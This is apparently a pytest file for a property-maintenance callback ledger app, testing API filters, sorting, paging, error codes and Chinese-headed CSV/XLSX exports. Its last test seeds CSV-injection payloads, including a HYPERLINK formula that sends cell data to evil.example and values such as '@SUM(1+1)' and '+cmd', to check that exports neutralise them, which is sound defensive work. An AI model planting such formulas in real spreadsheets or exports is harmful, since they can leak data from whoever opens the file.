"""The callback ledger: API filters, sorting, paging, 4xx answers, CSV and XLSX exports."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from .conftest import sign_in


def _all(client, **params):
    return client.get("/api/v1/callbacks", params={"limit": 1000, **params})


def test_ledger_lists_every_callback_with_its_job(client, demo):
    body = _all(client).json()
    assert body["count"] == demo.callbacks
    assert len(body["data"]) == min(demo.callbacks, 1000)
    row = body["data"][0]
    for key in (
        "job",
        "unit",
        "staff",
        "role",
        "channel",
        "done_at",
        "on_time",
        "satisfaction",
        "inspected",
        "charge_verified",
        "service_feedback",
        "signature",
        "rectification",
    ):
        assert key in row
    assert row["done_at"].endswith("+08:00")


def test_filters_combine_and_count_the_whole_selection(client, demo):
    rows = _all(client, estate="YGHY", period="2026-05").json()["data"]
    for role in ("manager", "supervisor", "lead"):
        for channel in ("on_site", "phone"):
            body = _all(client, estate="YGHY", period="2026-05", role=role, channel=channel).json()
            expected = [r for r in rows if r["role"] == role and r["channel"] == channel]
            assert body["count"] == len(expected)
            assert {r["id"] for r in body["data"]} == {r["id"] for r in expected}
    assert all(r["estate"] == "YGHY" for r in rows)
    assert all(r["job"].startswith("YGHY-") for r in rows)


@pytest.mark.parametrize("sort", ["done_at", "-done_at", "job", "-staff", "satisfaction"])
def test_sorting(client, demo, sort):
    rows = _all(client, estate="CHY", sort=sort).json()["data"]
    key = sort.lstrip("-")
    values = [(r[key] or "") for r in rows]
    assert values == sorted(values, reverse=sort.startswith("-"))


def test_paging_returns_the_same_rows_as_one_page(client, demo):
    whole = [r["id"] for r in _all(client, estate="WLG").json()["data"]]
    pages = []
    for offset in range(0, len(whole), 7):
        body = client.get(
            "/api/v1/callbacks", params={"estate": "WLG", "limit": 7, "offset": offset}
        ).json()
        assert body["count"] == len(whole)
        pages += [r["id"] for r in body["data"]]
    assert pages == whole


@pytest.mark.parametrize(
    ("params", "status"),
    [
        ({"estate": "NOPE"}, 404),
        ({"period": "2026-13"}, 422),
        ({"period": "0000-01"}, 422),
        ({"role": "boss"}, 422),
        ({"channel": "fax"}, 422),
        ({"satisfaction": "meh"}, 422),
        ({"sort": "password"}, 422),
        ({"limit": 0}, 422),
        ({"limit": 1001}, 422),
        ({"offset": -1}, 422),
    ],
)
def test_bad_filters_are_clear_4xx(client, small_demo, params, status):
    response = client.get("/api/v1/callbacks", params=params)
    assert response.status_code == status
    assert response.json()["detail"]


def test_api_needs_the_key(client, small_demo):
    response = client.get("/api/v1/callbacks", headers={"Authorization": "Bearer wrong"})
    assert response.status_code == 401


def test_signature_status_is_dash_until_signatures_are_recorded(client, small_demo):
    rows = _all(client).json()["data"]
    assert rows and all(r["signature"] in (None, "signed", "unsigned") for r in rows)


def test_csv_export_has_a_bom_and_chinese_headers(client, demo):
    sign_in(client, "wang.yghy")
    response = client.get("/ledger.csv", params={"period": "2026-05"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert table[0][:4] == ["序号", "维修单号", "房号", "维修内容"]
    assert "满意度" in table[0] and "签名" in table[0]
    count = _all(client, estate="YGHY", period="2026-05").json()["count"]
    assert len(table) - 1 == count
    assert {row[table[0].index("回访方式")] for row in table[1:]} <= {"上门回访", "电话回访"}


def test_xlsx_export_has_chinese_headers_and_widths(client, demo):
    sign_in(client, "li.yghy")
    response = client.get("/ledger.xlsx", params={"period": "2026-04", "role": "lead"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    headers = [c.value for c in sheet[1]]
    assert headers[1] == "维修单号" and "回访人" in headers
    assert sheet.column_dimensions["B"].width >= 15
    count = _all(client, estate="YGHY", period="2026-04", role="lead").json()["count"]
    assert sheet.max_row - 1 == count
    roles = {
        row[headers.index("回访人角色")] for row in sheet.iter_rows(min_row=2, values_only=True)
    }
    assert roles <= {"维修负责人"}


def test_ledger_page_filters_and_links_exports(client, demo):
    sign_in(client, "wang.yghy")
    response = client.get("/ledger", params={"period": "2026-05", "channel": "phone"})
    assert response.status_code == 200
    count = _all(client, estate="YGHY", period="2026-05", channel="phone").json()["count"]
    assert f"共 {count} 条回访记录" in response.text
    assert "/ledger.csv?estate=YGHY&amp;period=2026-05" in response.text
    assert "上门回访</td>" not in response.text


def test_exports_never_turn_text_into_formulas(client, demo):
    """CSV injection: text from Odoo, imports or residents stays text in every export."""
    evil_title = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    client.post(
        "/api/v1/jobs",
        json={
            "ref": "EVIL-1",
            "estate": "YGHY",
            "title": evil_title,
            "worker": "@SUM(1+1)",
            "completed_at": "2026-05-18T10:00:00+08:00",
        },
    )
    created = client.post(
        "/api/v1/jobs/EVIL-1/callbacks",
        json={
            "role": "manager",
            "staff": "+cmd",
            "channel": "phone",
            "done_at": "2026-05-19T10:00:00+08:00",
            "service_feedback": "=1+1",
            "problems": "-2+3",
            "satisfaction": "unsatisfied",
        },
    )
    assert created.status_code == 201, created.text
    sign_in(client, "wang.yghy")
    xlsx = client.get("/ledger.xlsx", params={"period": "2026-05"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert any(c.value == evil_title for c in cells)  # the exact text, kept
    assert all(c.data_type != "f" for c in cells)
    table = list(
        csv.reader(
            io.StringIO(
                client.get("/ledger.csv", params={"period": "2026-05"}).content.decode("utf-8-sig")
            )
        )
    )
    flat = [v for row in table[1:] for v in row]
    assert "'" + evil_title in flat and "'@SUM(1+1)" in flat and "'-2+3" in flat
    assert not any(v.startswith(("=", "+", "-", "@")) for v in flat)
    report = client.get("/dashboard/report", params={"period": "2026-05", "format": "xlsx"})
    book = load_workbook(io.BytesIO(report.content))
    assert all(c.data_type != "f" for ws in book for row in ws.iter_rows() for c in row)
    report_csv = client.get("/dashboard/report", params={"period": "2026-05", "format": "csv"})
    lines = list(csv.reader(io.StringIO(report_csv.content.decode("utf-8-sig"))))
    assert not any(v.startswith(("=", "+", "@")) for row in lines for v in row)
